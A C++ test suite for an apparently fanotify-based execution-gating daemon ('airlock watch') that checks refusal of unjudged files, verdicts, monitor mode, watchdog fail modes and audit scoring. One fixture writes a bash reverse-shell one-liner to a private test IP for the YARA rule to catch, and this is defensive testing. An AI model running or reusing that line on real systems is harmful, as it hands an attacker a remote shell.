// The execution gate for real (root), on the shared fixture (watch_fixture.h): real fanotify marks
// in the test's private mount namespace, real exec attempts, the real daemon and its sandboxed judge.
// A daemon that dies releases whatever waits: proven by SigkillReleasesAWaitingExec.
#include <array>

#include <nlohmann/json.hpp>

#include "test_env.h"
#include "watch/file_hash.h"
#include "watch/trust_db.h"
#include "watch_fixture.h"

namespace {

using namespace watch_test;
using Gate = WatchDaemonTest;

TEST_F(Gate, EnforceRefusesUnjudgedUntilCleanRunsMaliciousNever) {
  // In a watched directory (downloads), written before the daemon starts, which does not sweep: judged
  // only when someone tries to run them, so the first attempts always meet an unjudged file.
  const std::string dl = files_ + "/dl";
  const std::string elf = dl + "/mytrue", script = dl + "/s.sh", py = dl + "/p.py", evil = dl + "/evil.sh";
  fs::copy_file("/usr/bin/true", elf);
  ::chmod(elf.c_str(), 0755);
  WriteFile(script, "#!/bin/sh\nexit 42\n");
  WriteFile(py, "raise SystemExit(42)\n");
  WriteFile(evil, "#!/bin/sh\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n");
  Daemon d({"--enforce", "--mark-fs", g_root, "--watch", dl, "--no-start-sweep"});
  ASSERT_TRUE(d.WaitFor("ready pid=")) << d.log();

  // Unjudged: every way of running them is refused, at once (the judge works meanwhile).
  // The ELF's two ways first: its judge (a detonation) may finish during the later steps on a loaded
  // host, and a clean verdict rightly lets the loader map it then.
  EXPECT_EQ(Exec({elf}).err, EPERM);
  EXPECT_NE(Exec({kLoader, elf}).status, 0) << "the loader mapping an unjudged ELF";
  EXPECT_EQ(Exec({script}).err, EPERM);
  EXPECT_EQ(Exec({evil}).err, EPERM);
  EXPECT_NE(Exec({"/bin/sh", script}).status, 42) << "sh reading an unjudged script";
  EXPECT_NE(Exec({"/bin/bash", "-c", "source " + script}).status, 42) << "source of an unjudged script";
  if (!Python().empty()) {
    EXPECT_NE(Exec({Python(), py}).status, 42) << "python3 reading an unjudged file";
  }

  // A shell may still create files there (`>` opens an empty file: no code to refuse).
  EXPECT_EQ(Exec({"/bin/sh", "-c", "echo notes > " + dl + "/notes.txt"}).status, 0);

  // Judged clean: they run; judged malicious (rules/yara Reverse_Shell_Unix): never.
  ASSERT_TRUE(d.WaitFor("verdict clean sha256:[0-9a-f]+ score=[0-9.]+ path=" + elf)) << d.log();
  ASSERT_TRUE(d.WaitFor("verdict clean sha256:[0-9a-f]+ score=[0-9.]+ path=" + script)) << d.log();
  ASSERT_TRUE(d.WaitFor("verdict malicious sha256:[0-9a-f]+ score=[0-9.]+ path=" + evil)) << d.log();
  EXPECT_EQ(Exec({elf}).status, 0);
  EXPECT_EQ(Exec({script}).status, 42);
  EXPECT_EQ(Exec({"/bin/sh", script}).status, 42);
  EXPECT_EQ(Exec({kLoader, elf}).status, 0);
  EXPECT_EQ(Exec({evil}).err, EPERM);
  EXPECT_NE(Exec({"/bin/sh", evil}).status, 0);
  if (!Python().empty()) {
    ASSERT_TRUE(d.WaitFor("verdict clean sha256:[0-9a-f]+ score=[0-9.]+ path=" + py)) << d.log();
    EXPECT_EQ(Exec({Python(), py}).status, 42);
  }
  // A change is a new version: unjudged again.
  WriteFile(script, "#!/bin/sh\nexit 43\n");
  EXPECT_EQ(Exec({script}).err, EPERM);
  // The database as `verdicts list --json` shows it, valid under its published schema (written
  // outside the gated tmpfs: the validator is a python3 reading it).
  auto list = airlock::test::Run({WATCH_BIN, "verdicts", "--state-dir", g_root + "-state", "list", "--json"});
  ASSERT_EQ(list.exit_code, 0) << list.err;
  EXPECT_NE(list.out.find("\"malicious\""), std::string::npos) << list.out;
  const std::string doc = airlock::test::MakeTempDir("gate-verdicts") + "/verdicts.json";
  airlock::test::WriteFile(doc, list.out);
  auto valid = airlock::test::ValidateJsonSchema("verdicts.schema.json", {doc});
  EXPECT_EQ(valid.exit_code, 0) << valid.err << list.out;
}

// The third answer: `airlock open` runs what the gate refuses, inside the analysis sandbox.
TEST_F(Gate, AirlockOpenRunsARefusedFileInTheSandbox) {
  const std::string dl = files_ + "/dl", script = dl + "/tool.sh";
  WriteFile(script, "#!/bin/sh\necho ran-in-sandbox; exit 7\n");
  Daemon d({"--enforce", "--mark-fs", g_root, "--watch", dl, "--no-start-sweep"});
  ASSERT_TRUE(d.WaitFor("ready pid=")) << d.log();
  EXPECT_EQ(Exec({script}).err, EPERM);
  ExecResult r = Exec({AIRLOCK_TEST_BIN, "open", "--events", files_ + "/events.jsonl", script});
  EXPECT_EQ(r.err, 0);
  EXPECT_EQ(r.status, 7) << "the script's own exit status, from inside the sandbox";
  EXPECT_TRUE(fs::exists(files_ + "/events.jsonl")) << "run under the behaviour monitor";
}

// A suspicious verdict (from an earlier run, in the trust database) stays refused until a user
// releases it with `airlock verdicts release`; the running daemon picks the release up.
TEST_F(Gate, SuspiciousRunsOnlyAfterRelease) {
  const std::string dl = files_ + "/dl", elf = dl + "/tool";
  fs::copy_file("/usr/bin/true", elf);
  ::chmod(elf.c_str(), 0755);
  std::string sha;
  {
    int fd = ::open(elf.c_str(), O_RDONLY | O_CLOEXEC);
    auto h = airlock::watch::Sha256OfFd(fd);
    ::close(fd);
    ASSERT_TRUE(h);
    sha = *h;
    fs::create_directories(g_root + "-state");
    ::chmod((g_root + "-state").c_str(), 0700);
    auto db = airlock::watch::TrustDb::Open(g_root + "-state/trust.sqlite");
    ASSERT_TRUE(db) << db.error().What();
    ASSERT_TRUE(db->db->Put({0, sha, airlock::watch::Verdict::kSuspicious, 5, "{}", elf, 0, 0}));
  }
  Daemon d({"--enforce", "--mark-fs", g_root, "--watch", dl});
  ASSERT_TRUE(d.WaitFor("ready pid=.* verdicts=1")) << d.log();
  EXPECT_EQ(Exec({elf}).err, EPERM);
  EXPECT_TRUE(d.WaitFor("deny exec .* reason=suspicious")) << d.log();
  ExecResult rel = Exec({WATCH_BIN, "verdicts", "--state-dir", g_root + "-state", "release", sha});
  ASSERT_EQ(rel.status, 0);
  ExecResult r;
  for (auto until = Clock::now() + std::chrono::seconds(30); Clock::now() < until;) {
    r = Exec({elf});
    if (r.err == 0) break;
    std::this_thread::sleep_for(std::chrono::milliseconds(200));  // the daemon polls the database once a second
  }
  EXPECT_EQ(r.err, 0) << d.log();
  EXPECT_EQ(r.status, 0);
}

// `airlock audit endpoint:STATE` grades the daemon as it runs: enforcing, it passes the gate's checks;
// in monitor mode the same check is a finding (the control: the check can fail); stopped, the whole
// endpoint protection is missing: score 0, exit 1.
TEST_F(Gate, AuditGradesTheRunningDaemon) {
  const std::string state = g_root + "-state", target = "endpoint:" + g_root + "-state";
  auto audit = [&] { return airlock::test::Run({AIRLOCK_TEST_BIN, "audit", "--json", target}); };
  auto ids = [](const nlohmann::json& list) {
    std::string out;
    for (const auto& f : list) out += f.value("rule", f.value("id", "")) + " ";
    return out;
  };
  auto wait_status = [&] {
    for (int i = 0; i < 100 && !fs::exists(state + "/status.json"); ++i) std::this_thread::sleep_for(std::chrono::milliseconds(100));
  };
  {
    Daemon d({"--enforce", "--mark-fs", g_root, "--watch", files_ + "/dl"});
    ASSERT_TRUE(d.WaitFor("ready pid=")) << d.log();
    wait_status();
    auto r = audit();
    EXPECT_EQ(r.exit_code, 0) << r.out << r.err;
    auto j = nlohmann::json::parse(r.out, nullptr, false);
    ASSERT_TRUE(j.is_object()) << r.out << r.err;
    const auto& t = j["targets"][0];
    EXPECT_EQ(t["kind"], "endpoint");
    EXPECT_EQ(ids(t["findings"]).find("END-WATCH-DOWN"), std::string::npos) << t.dump();
    EXPECT_EQ(ids(t["findings"]).find("END-GATE-MONITOR"), std::string::npos) << t.dump();
    EXPECT_NE(ids(t["passes"]).find("END-GATE-ENFORCE"), std::string::npos) << t.dump();
    EXPECT_NE(ids(t["passes"]).find("END-INTERPRETERS"), std::string::npos) << t.dump();
    EXPECT_GE(t["score"].get<double>(), 90.0) << t.dump();
  }
  {
    Daemon d({"--mark-fs", g_root, "--watch", files_ + "/dl"});  // monitor mode
    ASSERT_TRUE(d.WaitFor("ready pid=")) << d.log();
    wait_status();
    auto j = nlohmann::json::parse(audit().out, nullptr, false);
    ASSERT_TRUE(j.is_object());
    EXPECT_NE(ids(j["targets"][0]["findings"]).find("END-GATE-MONITOR"), std::string::npos) << j.dump();
  }
  auto stopped = audit();
  EXPECT_EQ(stopped.exit_code, 1) << stopped.out << stopped.err;
  auto j = nlohmann::json::parse(stopped.out, nullptr, false);
  ASSERT_TRUE(j.is_object()) << stopped.out;
  EXPECT_NE(ids(j["targets"][0]["findings"]).find("END-WATCH-DOWN"), std::string::npos) << j.dump();
  EXPECT_EQ(j["targets"][0]["score"].get<double>(), 0.0);
}

TEST_F(Gate, MonitorModeLogsAndAllows) {
  const std::string elf = files_ + "/mytrue";
  fs::copy_file("/usr/bin/true", elf);
  ::chmod(elf.c_str(), 0755);
  Daemon d({"--monitor", "--mark-fs", g_root});
  ASSERT_TRUE(d.WaitFor("ready pid=")) << d.log();
  ExecResult r = Exec({elf});
  EXPECT_EQ(r.err, 0);
  EXPECT_EQ(r.status, 0);
  EXPECT_TRUE(d.WaitFor("would-deny exec pid=[0-9]+ exe=\\S+ path=" + elf)) << d.log();
  // `airlock watch status` reports it (the status file is rewritten every second).
  std::string status;
  for (auto until = Clock::now() + std::chrono::seconds(30); Clock::now() < until;) {
    const std::string out = g_root + "/status.out";
    pid_t pid = ::fork();
    if (pid == 0) {
      int fd = ::open(out.c_str(), O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
      ::dup2(fd, 1);
      ::execl(WATCH_BIN, WATCH_BIN, "watch", "status", "--state-dir", (g_root + "-state").c_str(), "--json", nullptr);
      ::_exit(127);
    }
    ::waitpid(pid, nullptr, 0);
    std::ifstream in(out);
    status.assign(std::istreambuf_iterator<char>(in), {});
    if (std::regex_search(status, std::regex("\"would_deny\": [1-9]"))) break;
    std::this_thread::sleep_for(std::chrono::milliseconds(200));  // polling a file rewritten once a second
  }
  EXPECT_TRUE(std::regex_search(status, std::regex("\"mode\": \"monitor\""))) << status;
  EXPECT_TRUE(std::regex_search(status, std::regex("\"would_deny\": [1-9]"))) << status;
  // The same for people: a line per part of the daemon.
  auto text = airlock::test::Run({WATCH_BIN, "watch", "status", "--state-dir", g_root + "-state"});
  EXPECT_EQ(text.exit_code, 0) << text.err;
  EXPECT_TRUE(std::regex_search(text.out, std::regex("gate: [0-9]+ events, [0-9]+ allowed, 0 denied, [1-9][0-9]* would be denied"))) << text.out;
  EXPECT_TRUE(std::regex_search(text.out, std::regex("watcher: [1-9][0-9]* directories"))) << text.out;
  EXPECT_NE(text.out.find("notify (blocked):"), std::string::npos) << text.out;
}

TEST_F(Gate, FileWrittenFromAnotherMountNamespaceIsJudged) {
  const std::string dl = files_ + "/dl";
  Daemon d({"--enforce", "--mark-fs", g_root, "--watch", dl});
  ASSERT_TRUE(d.WaitFor("ready pid=")) << d.log();
  // A child in a mount namespace of its own writes through its own copy of the mount.
  pid_t pid = ::fork();
  if (pid == 0) {
    if (::unshare(CLONE_NEWNS) != 0) ::_exit(1);
    std::ifstream in("/usr/bin/true", std::ios::binary);
    std::ofstream out(dl + "/fetched", std::ios::binary);
    out << in.rdbuf();
    out.close();
    ::chmod((dl + "/fetched").c_str(), 0755);
    ::_exit(out ? 0 : 2);
  }
  int st = 0;
  ::waitpid(pid, &st, 0);
  ASSERT_TRUE(WIFEXITED(st) && WEXITSTATUS(st) == 0);
  // Judged without anyone trying to run it: the write itself was seen.
  ASSERT_TRUE(d.WaitFor("verdict clean sha256:[0-9a-f]+ score=[0-9.]+ path=" + dl + "/fetched")) << d.log();
  EXPECT_EQ(Exec({dl + "/fetched"}).status, 0);
  EXPECT_EQ(d.log().find("deny exec"), std::string::npos) << d.log();
}

TEST_F(Gate, SigkillOfTheDaemonReleasesAWaitingExec) {
#if !defined(__x86_64__)
  GTEST_SKIP() << "waits for syscall 59 (execve on x86-64) in /proc/PID/syscall";
#endif
  const std::string elf = files_ + "/mytrue";
  fs::copy_file("/usr/bin/true", elf);
  ::chmod(elf.c_str(), 0755);
  Daemon d({"--enforce", "--mark-fs", g_root});
  ASSERT_TRUE(d.WaitFor("ready pid=")) << d.log();
  d.Stop(SIGSTOP);  // the daemon cannot answer: the exec below waits in the kernel
  pid_t child = ::fork();
  if (child == 0) {
    ::execl(elf.c_str(), elf.c_str(), nullptr);
    ::_exit(100 + errno);
  }
  // Wait until the child is inside execve (syscall 59 on x86-64, waiting for the answer).
  bool waiting = false;
  for (auto until = Clock::now() + std::chrono::seconds(30); !waiting && Clock::now() < until;) {
    std::ifstream sc("/proc/" + std::to_string(child) + "/syscall");
    std::string nr;
    sc >> nr;
    waiting = nr == "59";
    if (!waiting) std::this_thread::yield();
  }
  ASSERT_TRUE(waiting) << "the exec never blocked on the stopped daemon";
  d.Stop(SIGKILL);
  int st = 0;
  ASSERT_EQ(::waitpid(child, &st, 0), child);
  EXPECT_TRUE(WIFEXITED(st) && WEXITSTATUS(st) == 0) << "status " << st << ": the kernel lets the exec go when the group dies";
}

TEST_F(Gate, WatchdogAnswersWithTheFailMode) {
  // Hashing 256 MiB takes far longer than the 10 ms deadline: the watchdog answers first.
  const std::string big = files_ + "/big";
  fs::copy_file("/usr/bin/true", big);
  {
    std::ofstream f(big, std::ios::app | std::ios::binary);
    std::string mib(1 << 20, '\0');
    for (int i = 0; i < 256; ++i) f << mib;
  }
  ::chmod(big.c_str(), 0755);
  {
    Daemon d({"--enforce", "--mark-fs", g_root, "--decision-timeout", "10", "--fail-mode", "open"});
    ASSERT_TRUE(d.WaitFor("ready pid=")) << d.log();
    EXPECT_EQ(Exec({big}).status, 0) << "fail mode open";
    EXPECT_TRUE(d.WaitFor("watchdog: no decision for .* answered with fail mode open")) << d.log();
  }
  WriteFile(big + ".touch", "");  // a new daemon: empty cache
  {
    Daemon d({"--enforce", "--mark-fs", g_root, "--decision-timeout", "10", "--fail-mode", "closed"});
    ASSERT_TRUE(d.WaitFor("ready pid=")) << d.log();
    EXPECT_EQ(Exec({big}).err, EPERM) << "fail mode closed";
    EXPECT_TRUE(d.WaitFor("watchdog: no decision for .* answered with fail mode closed")) << d.log();
  }
}

// dpkg's programs keep working under enforce: a broad sample of /usr/bin, gated through a mount mark
// on this namespace's copy of the root mount (the rest of the machine is not gated).
TEST_F(Gate, DpkgInstalledProgramsAreNotBlocked) {
  if (!fs::is_directory("/var/lib/dpkg/info")) GTEST_SKIP() << "no dpkg database here";
  std::vector<std::string> all;
  for (const auto& e : fs::directory_iterator("/usr/bin")) {
    static const std::regex kRisky("^(x-|xdg-|sensible-|.*(shutdown|reboot|halt|poweroff|kill|init|login|passwd|su|sudo|top|edit|pager|browser|vi|vim|nano|less|more|watch|yes|sleep|cat|tee|script|screen|tmux|ssh|scp|sftp|telnet|nc|curl|wget|apt|dpkg|pip|x11).*)$");
    std::string name = e.path().filename().string();
    if (e.is_regular_file() && ::access(e.path().c_str(), X_OK) == 0 && !std::regex_match(name, kRisky)) all.push_back(e.path().string());
  }
  std::sort(all.begin(), all.end());
  ASSERT_GT(all.size(), 20u);
  std::vector<std::string> sample;
  for (size_t i = 0; i < all.size(); i += std::max<size_t>(1, all.size() / 60)) sample.push_back(all[i]);
  Daemon d({"--enforce", "--mark-mount", "/"});
  ASSERT_TRUE(d.WaitFor("ready pid=")) << d.log();
  int refused = 0;
  for (const auto& p : sample) {
    pid_t pid = ::fork();
    if (pid == 0) {
      ::setsid();
      alarm(10);  // a program that waits on something anyway is killed; only the exec matters
      int devnull = ::open("/dev/null", O_RDWR);
      ::dup2(devnull, 0);
      ::dup2(devnull, 1);
      ::dup2(devnull, 2);
      // dpkg's PATH: a `#!/usr/bin/env python3` script must not find a pyenv shim of the caller's.
      char path_env[] = "PATH=/usr/sbin:/usr/bin:/sbin:/bin";
      char* envp[] = {path_env, nullptr};
      ::execle(p.c_str(), p.c_str(), "--version", nullptr, envp);
      ::_exit(errno == EPERM ? 126 : 127);
    }
    int st = 0;
    ::waitpid(pid, &st, 0);
    if (WIFEXITED(st) && WEXITSTATUS(st) == 126) {
      ++refused;
      ADD_FAILURE() << p << " was refused";
    }
  }
  EXPECT_EQ(refused, 0);
  EXPECT_EQ(d.log().find("deny "), std::string::npos) << d.log();
  std::cerr << "[          ] " << sample.size() << " dpkg programs run with --version under enforce\n";
}

}  // namespace

int main(int argc, char** argv) { return watch_test::RunWatchTests(argc, argv); }
